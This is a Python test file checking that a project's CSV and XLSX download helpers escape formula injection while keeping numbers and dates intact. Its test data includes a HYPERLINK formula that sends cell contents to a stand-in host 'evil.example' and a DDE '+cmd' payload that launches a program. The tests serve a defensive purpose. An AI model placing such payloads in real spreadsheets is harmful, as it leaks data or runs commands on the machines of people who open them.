"""CSV and XLSX downloads: no text cell is ever read as a formula (security review, finding 3),
while numbers and dates stay numbers and dates."""

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from maillage.core.spreadsheets import csv_text, table_response, xlsx_bytes

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
HEADER = ["=Nom", "Montant", "Date", "Téléphone"]
ROWS = [
    [PAYLOAD, Decimal("-12.5"), dt.date(2026, 1, 15), "+33612345678"],
    ["@SUM(A1:A9)", -3, None, "-12.5"],
    ["+cmd|' /C calc'!A0", 2.5, None, "\t=1+1"],
]


def test_csv_cells_never_start_a_formula():
    rows = list(csv.reader(io.StringIO(csv_text(header=HEADER, rows=ROWS)[1:]), delimiter=";"))
    assert rows == [
        ["'=Nom", "Montant", "Date", "Téléphone"],
        ["'" + PAYLOAD, "-12,5", "2026-01-15", "+33612345678"],
        ["'@SUM(A1:A9)", "-3", "", "-12.5"],
        ["'+cmd|' /C calc'!A0", "2,5", "", "'\t=1+1"],
    ]


def test_xlsx_stores_no_formula_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(header=HEADER, rows=ROWS))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(("=", "@", "+cmd"))]
    values = list(sheet.iter_rows(values_only=True))
    assert values[1] == ("'" + PAYLOAD, -12.5, dt.datetime(2026, 1, 15), "+33612345678")
    assert values[2][:2] == ("'@SUM(A1:A9)", -3)


def test_table_response_goes_through_the_same_cells():
    response = table_response(filename="x", fmt="xlsx", header=HEADER, rows=ROWS)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + PAYLOAD
